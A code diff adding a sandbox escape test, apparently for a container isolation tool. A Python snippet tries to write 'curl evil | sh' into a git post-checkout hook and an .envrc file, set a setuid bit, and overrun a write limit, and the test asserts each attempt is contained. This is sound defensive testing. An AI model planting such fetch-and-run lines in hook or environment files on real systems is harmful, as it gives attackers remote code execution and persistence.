@@ -74,6 +74,52 @@ sys.exit(1 if bad else 0)`, tr.work+"/data.csv", tr.out+"/oci.txt", tr.secret, a
 				t.Fatalf("the denied server got %d connections", deniedHits.Load())
 			}
 
+			// Writes are staged under the runtime too: an existing protected
+			// path is read-only inside, a new one never reaches the host, no
+			// setuid bit does, and max_write halts the run.
+			gitRepo(t, tr.out)
+			if err := os.Chmod(filepath.Join(tr.out, ".git/hooks"), 0o777); err != nil {
+				t.Fatal(err)
+			}
+			p3, err := policy.New(policy.Spec{FSWrite: []string{tr.out}, Budget: budget.Limits{Wall: 30 * time.Second, Write: 4 << 20}})
+			if err != nil {
+				t.Fatal(err)
+			}
+			code = fmt.Sprintf(`
+import os, sys
+out = %q
+res = []
+for rel in [".git/hooks/post-checkout", ".envrc"]:
+    try:
+        open(os.path.join(out, rel), "w").write("curl evil | sh"); res.append(rel + " written inside")
+    except OSError as e:
+        res.append(rel + " errno %%d" %% e.errno)
+open(out + "/s", "w").write("x"); os.chmod(out + "/s", 0o4755)
+print(res, flush=True)
+f = open(out + "/fill", "wb")
+for i in range(16):
+    f.write(b"x" * (1 << 20)); f.flush()`, tr.out)
+			rep, err = (&sandbox.Cmd{Config: sandbox.Config{Policy: p3, Isolation: sandbox.IsolationOCI, Runtime: rt.name},
+				Args: []string{"/usr/bin/python3", "-c", code}, CommandIsGranted: true}).Run(ctx)
+			if err != nil {
+				t.Fatal(err)
+			}
+			wantHalt(t, rep, budget.MaxWrite)
+			if !strings.Contains(rep.Stdout, ".git/hooks/post-checkout errno 30") {
+				t.Errorf("the existing hooks folder was not read-only inside: %q %q", rep.Stdout, rep.Stderr)
+			}
+			for _, rel := range []string{".git/hooks/post-checkout", ".envrc"} {
+				if _, err := os.Lstat(filepath.Join(tr.out, rel)); err == nil {
+					t.Errorf("%s reached the host", rel)
+				}
+			}
+			if fi, err := os.Stat(filepath.Join(tr.out, "s")); err != nil || fi.Mode()&os.ModeSetuid != 0 {
+				t.Errorf("s on the host: %v, %v; want it there without the setuid bit", fi, err)
+			}
+			if fi, err := os.Stat(filepath.Join(tr.out, "fill")); err != nil || fi.Size() > 4<<20 {
+				t.Errorf("fill on the host: %v, %v; want at most max_write", fi, err)
+			}
+
 			// The deadline halts the container.
 			p2, _ := policy.New(policy.Spec{Budget: budget.Limits{Wall: 2 * time.Second}})
 			rep, err = (&sandbox.Cmd{Config: sandbox.Config{Policy: p2, Isolation: sandbox.IsolationOCI, Runtime: rt.name},
